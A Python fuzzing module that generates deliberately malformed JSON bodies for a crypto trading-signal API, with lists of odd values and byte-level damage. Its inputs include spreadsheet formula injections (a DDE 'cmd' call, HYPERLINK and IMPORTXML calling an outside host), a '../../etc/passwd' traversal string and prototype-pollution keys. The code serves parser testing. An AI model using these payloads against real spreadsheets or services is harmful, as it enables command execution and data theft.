"""API bodies nobody should send: the guide's envelope with any part of it replaced, repeated, nested or damaged."""

from __future__ import annotations

import json
from collections.abc import Callable
from random import Random

FIELDS = (
    "id", "timestamp", "exchange", "currency", "coin", "direction", "buy_start", "buy_end", "target1", "target2",
    "target3", "stop_loss", "type", "ask", "risk_level", "leverage",
)  # fmt: skip
GOOD = {
    "id": ["1847291", "7", "900719925474099"],
    "timestamp": ["2026-05-24 14:32:05", "2026-05-24T14:32:05.250Z", "1779633125"],
    "exchange": ["binance", "BINANCE_FUTURES", "kucoin"],
    "currency": ["USDT", "BTC"],
    "coin": ["BTC", "ETH", "1000PEPE"],
    "direction": ["LONG", "SHORT"],
    "type": ["SHORT TERM", "MID TERM", "SCALPING"],
    "risk_level": ["3"],
    "leverage": ["20"],
}
PRICES = ["94250.5", "0.00000065", "95500", "0", ""]
FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=cmd|' /C calc'!A0", '=HYPERLINK("http://x","y")',
    "=1\u0000", " =1", "\ufeff=1", "'=1", "\uff1d1+1", "%0A=1", '";=1',
    '=IMPORTXML(CONCAT("http://x/",A1),"//a")', "{=1}",
]  # fmt: skip
ODD_TEXTS = [
     * FORMULAS, "", " ", "\u0000", "\u0001", "\u001b[31m", "\u007f", "\u0085", "\u2028", "\u202e", "\ud800",
    "\udfff", "\ud83d\ude00", "\ufffe", "\uffff", "_x0041_", "_x", "<x>&amp;\"'</x>", "]]>", "<![CDATA[",
    "{stop}", "{^cum}", "x" * 200, "x" * 201, "\u5e01" * 40_000, "=" * 70_000, "null", "None", "NaN", "inf",
    "-0", "TRUE", "1/2", "7e30", "\u0663", "\u00b2", "\u2155", "1_000", "1,5", "0x10", "1e5", "1e-5", "1e30",
    "1e31", "1e999", "1e999999999", "-5", "9" * 30, "9" * 79, "9" * 5_000, "." + "0" * 70 + "1",
    "0000-00-00 00:00:00", "2026-02-30 00:00:00", "2199-12-31 23:59:59-14:00", "2000-01-01 00:00:00+23:59",
    "9999-12-31 23:59:59+99:99", "2026-05-24 24:00:00", "2026-05-24 23:59:60", "9999999999", "99999999999999",
    "2026-10-25 02:30:00", "../../etc/passwd", "%s%n", "${x}", "constructor", "__proto__", "a\nb",
    "  padded  ", "\u00c5ngstr\u00f6m",
]  # fmt: skip
ODD_TOKENS = [
    "null", "true", "false", "NaN", "-Infinity", "0", "-0.0", "1e400", "1E+999999999", "1" * 5_000,
    "0.1e-999", "[]", "{}", "[[]]", '{"a":{"a":{"a":1}}}', '{"a":1,"a":2}', "[" * 200 + "]" * 200,
    "[" * 10_000, '"\\ud800"', '"\\u0000"', "01", "1.", '"\\x"', "1847291", "1847291.0", "1.5", "94400.00",
    "\u0661",
]  # fmt: skip
_DEEP = b"[" * 10_000  # deeper than any reader goes; more would only take longer
_PIECES = [
    b"", b"\x00", b"\xff\xfe", b"\xef\xbb\xbf", b'"', b"\\", b"{", b"}", b"[", b"]", b",", b":", b"\xed\xa0\x80", _DEEP,
]  # fmt: skip


def body(random: Random) -> bytes:
    """A body; about a third of its signals are good ones."""
    signals = [_signal(random) for _ in range(random.choice([0, 1, 1, 1, 2, 3]))]
    if signals and random.random() < 0.1:
        signals.append(random.choice(signals))
    members = [
        ("error", _rarely(random, '"0"', _token)),
        ("message", _rarely(random, '"Success"', _token)),
        ("count", _rarely(random, str(len(signals)), _token)),
        ("signals", _rarely(random, "[" + ",".join(signals) + "]", _token, 0.02)),
    ]
    if random.random() < 0.1:
        _disturb(random, members)
    text = "{" + ",".join(f'"{name}":{value}' for name, value in members) + "}"
    encoded = text.encode("utf-8", "surrogatepass")
    return _damaged(random, encoded) if random.random() < 0.15 else encoded


def _signal(random: Random) -> str:
    members = [(name, json.dumps(random.choice(GOOD.get(name, PRICES)))) for name in FIELDS]
    for _ in range(random.choice([0, 0, 1, 1, 2, 4])):
        at = random.randrange(len(members))
        members[at] = (members[at][0], _token(random))
    if random.random() < 0.25:
        _disturb(random, members)
    if random.random() < 0.25:
        members.append(
            (random.choice(["note", "Coin", "x" * 300, "\\u0000", "=1+1", "\\ud800"]), _token(random))
        )
    return _rarely(random, "{" + ",".join(f'"{name}":{value}' for name, value in members) + "}", _token, 0.02)


def _token(random: Random) -> str:
    """Any JSON value, sometimes none at all."""
    match random.randrange(8):
        case 0 | 1:
            return random.choice(ODD_TOKENS)
        case 2:
            return json.dumps("".join(chr(random.randrange(0x3000)) for _ in range(random.randrange(8))))
        case 3:
            return json.dumps(str(random.uniform(-1, 10) * 10.0 ** random.randrange(-40, 40)))
        case 4:
            return json.dumps(random.choice(FORMULAS) + random.choice(["", "BTC", "\u0000"]))
        case _:
            return json.dumps(random.choice(ODD_TEXTS), ensure_ascii=random.random() < 0.5)


def _rarely(random: Random, usual: str, other: Callable[[Random], str], share: float = 0.05) -> str:
    return other(random) if random.random() < share else usual


def _disturb(random: Random, members: list[tuple[str, str]]) -> None:
    """Leave one out, repeat one or change the order."""
    match random.randrange(3):
        case 0:
            del members[random.randrange(len(members))]
        case 1:
            members.append(random.choice(members))
        case _:
            random.shuffle(members)


def _damaged(random: Random, content: bytes) -> bytes:
    """Bytes cut off, swapped or put in between, or the whole in another encoding."""
    at, piece = random.randrange(len(content) + 1), random.choice(_PIECES)
    match random.randrange(6):
        case 0:
            return content[:at]
        case 1:
            return content[:at] + piece + content[at:]
        case 2:
            return content[:at] + bytes([random.randrange(256)]) + content[at + 1 :]
        case 3:
            return piece + content
        case 4:
            return content.decode("utf-8", "replace").encode(
                random.choice(["utf-16", "utf-32", "latin-1"]), "replace"
            )
        case _:
            return bytes(random.randrange(256) for _ in range(random.randrange(60)))
